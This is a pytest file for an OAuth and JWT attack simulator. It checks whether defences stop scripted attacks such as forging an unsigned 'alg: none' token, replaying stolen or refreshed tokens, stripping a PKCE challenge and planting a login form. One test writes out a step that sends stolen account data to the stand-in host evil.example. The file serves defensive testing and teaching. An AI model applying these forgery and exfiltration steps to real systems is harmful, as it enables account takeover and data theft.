"""What a verdict may say, kind by kind: each case once went wrong, and stands here with siblings that went wrong for the same reason."""

from __future__ import annotations

from typing import Any

import pytest

from sandbox.engine import simulation
from sandbox.engine.result import Verdict
from sandbox.language.loader import loads
from sandbox.protocol.settings import Settings
from tests.support.short_stories import lines, sent, status, told

CALL = "use mallory.call_api {api: accounts, path: /accounts, token: %s}\n"
FORGE = "forge mallory.forge {%s, claims: {sub: alice}}\n"
IN = "login app.sign_in {browser: laptop, scope: read}\n"
PAGE = {"client_code_flow": "on", "client_bff": "off"}


def verdict(steps: str, goal: str, profile: str, knows: str = "mine: mallory.key", **switches: str) -> Verdict:
    """The verdict of these steps, whose goal is `kind: what, at: step`."""
    head = f"title: T\nstory: S.\nlesson: L.\nrefs: [RFC 6749 §1]\ndifficulty: beginner\nattacker: {{is: she, knows: {{{knows}}}}}\nsetting: {{profile: {profile}}}\n"
    text = f"{head}steps:\n{lines(steps)}goal:\n  - {{{goal}}}\n"
    return simulation.run(loads(text, "shown.yaml"), settings(profile, **switches)).verdict


def settings(profile: str, **switches: str) -> Settings:
    return Settings.of(profile, {n if n.isupper() else n.replace("_", ".", 1): v for n, v in switches.items()})


READ = 'read: "alice:account-1", at: use'


@pytest.mark.parametrize(
    ("word", "switches"),
    [
        ("succeeded", {"rs_alg_policy": "trust-header", **PAGE}),
        ("succeeded", {"rs_alg_policy": "trust-header", "client_bff": "on"}),  # a door that her script does not need is no defence
        ("blocked", {"rs_alg_policy": "blocklist", **PAGE}),
        ("blocked", {"rs_alg_policy": "allowlist", **PAGE}),
    ],
)
@pytest.mark.parametrize("profile", ["naive-jwt", "oauth-basic"])
def test_a_token_forged_from_nothing(word: str, switches: dict[str, str], profile: str) -> None:
    steps = FORGE % "header: {alg: none}, key: none" + CALL % "$forge.token"
    assert verdict(steps, READ, profile, **switches).word == word


@pytest.mark.parametrize(("api", "word"), [("accounts", "stalled"), ("transactions", "stalled")])
def test_a_script_that_cannot_go_on_is_not_blocked(api: str, word: str) -> None:
    steps = (
        IN + "theft mallory.read {storage: app, browser: laptop}\n" + (CALL % "$theft.access_token").replace("api: accounts", f"api: {api}")
    )
    assert verdict(steps, READ, "oauth-basic", client_bff="on").word == word


@pytest.mark.parametrize(("dpop", "word"), [("off", "succeeded"), ("accept-both", "succeeded"), ("require", "blocked")])
def test_a_bound_token_sent_as_bearer(dpop: str, word: str) -> None:
    steps = IN + "first app.call_api {browser: laptop, api: accounts, path: /accounts}\nleak mallory.read {log: accounts}\n"
    steps += (CALL % "$leak.access_token").replace("}\n", ", scheme: bearer}\n")
    assert verdict(steps, READ, "oauth-bcp", client_bff="off", rs_log_redaction="off", rs_dpop=dpop).word == word


@pytest.mark.parametrize("renewals", [0, 1, 3])
def test_exposure_follows_renewal(renewals: int) -> None:
    """However short the life of an access token: what can be renewed for ever is no limit."""
    steps, token = IN + "r0 mallory.read {storage: app, browser: laptop}\n", "$r0.access_token"
    for n in range(1, renewals + 1):
        steps += f"w{n} clock.wait {{seconds: 400}}\nr{n} mallory.redeem {{client: app, refresh_token: $r{n - 1}.refresh_token}}\n"
        token = f"$r{n}.access_token"
    found = verdict(steps + CALL % token, READ, "oauth-basic", as_short_ttl="on", **PAGE)
    assert (found.word, found.exposure) == ("succeeded", None)


@pytest.mark.parametrize("wait", [600, 60])
def test_what_she_read_before_the_family_died_counts(wait: int) -> None:
    steps = (
        IN + "theft mallory.read {storage: app, browser: laptop}\nfirst mallory.redeem {client: app, refresh_token: $theft.refresh_token}\n"
    )
    steps += f"later clock.wait {{seconds: {wait}}}\nrenews app.refresh {{browser: laptop}}\n" + CALL % "$first.access_token"
    assert verdict(steps, READ, "oauth-basic", as_rt_rotation="reuse-detect", **PAGE).word in ("succeeded", "limited")


@pytest.mark.parametrize("how", ["laptop.send {method: POST, url: 'https://evil.example/collect', json: {data: $use.json.accounts.0}}", ""])
def test_read_counts_in_a_request_to_a_host_of_hers(how: str) -> None:
    ride = "use laptop.send {method: GET, url: 'https://app.connectsphere.example/api/accounts/accounts', headers: {X-CSRF: '1'}}\n"
    steps = IN + ride + (f"home {how}\n" if how else "home clock.wait {seconds: 1}\n")
    found = verdict(steps, 'read: "alice:account-1", at: home', "oauth-bcp", client_bff="on")
    assert found.word == ("succeeded" if how else "stalled")


@pytest.mark.parametrize(
    ("scope", "fails"),
    [("opnid raed", True), ("read", False)],
)
def test_a_refused_sign_in_completes_nothing(scope: str, fails: bool) -> None:
    text = f"title: T\nstory: S.\nlesson: L.\nrefs: [RFC 6749 §1]\nsetting: {{profile: oauth-bcp}}\nsteps:\n{lines(IN.replace('scope: read', f'scope: {scope}'))}"
    assert simulation.run(loads(text, "flow.yaml")).verdict.word == ("failed" if fails else "completed")


@pytest.mark.parametrize("browser", ["laptop", "phone"])
def test_a_form_comes_back_from_the_browser_that_fetched_it(browser: str) -> None:
    """RFC 6749 §10.12."""
    steps = "ask budget.sign_in {browser: mallory_browser, user: mallory, hold: auth}\nform mallory_browser.follow {}\n"
    record = told(steps, "oauth-bcp")
    ticket = record.outputs["form"]["response"].body.partition('name="ticket" value="')[2].partition('"')[0]
    assert ticket
    form = f"{{ticket: '{ticket}', username: mallory, password: trustno1}}"
    steps += f"plant {browser}.send {{method: POST, url: 'https://auth.connectsphere.example/login', form: {form}}}\n"
    assert status(told(steps, "oauth-bcp"), "plant") == (403, "access_denied")


@pytest.mark.parametrize(("client", "home"), [("budget", "https://budget.example/me"), ("app", "https://app.connectsphere.example/")])
def test_sign_in_makes_a_new_session_value(client: str, home: str) -> None:
    record = told(
        f"before laptop.visit {{url: '{home}'}}\nlogin {client}.sign_in {{browser: laptop}}\nafter laptop.visit {{url: '{home}'}}",
        client_bff="on",
    )
    name = next(n for n in sent(record, "after", client)[-1].cookies if n.endswith("session"))
    during = {r.cookies.get(name) for r in sent(record, "login", client)} - {None}
    assert sent(record, "after", client)[-1].cookies[name] not in during


@pytest.mark.parametrize("hops", [2, 5, 9])
def test_refresh_tokens_have_an_absolute_end(hops: int) -> None:
    """RFC 10017 §6.3.2.3: rotation does not move the end of the first one."""
    steps = IN + "".join(f"w{n} clock.wait {{seconds: {5_000_000 // hops}}}\nr{n} app.refresh {{browser: laptop}}\n" for n in range(hops))
    record: Any = told(steps, "oauth-bcp")
    assert status(record, f"r{hops - 1}") == (400, "invalid_grant")


@pytest.mark.parametrize(("pkce", "word"), [("optional", "succeeded"), ("no-downgrade", "blocked"), ("required", "blocked")])
def test_a_challenge_is_stripped(pkce: str, word: str) -> None:
    """RFC 9700 §4.8: only a server that remembers, or insists, stops it."""
    from sandbox.language import library

    way = library.get("code-injection-challenge-stripped")
    assert simulation.run(way, way.settings.at_least({"as.pkce": pkce})).verdict.word == word
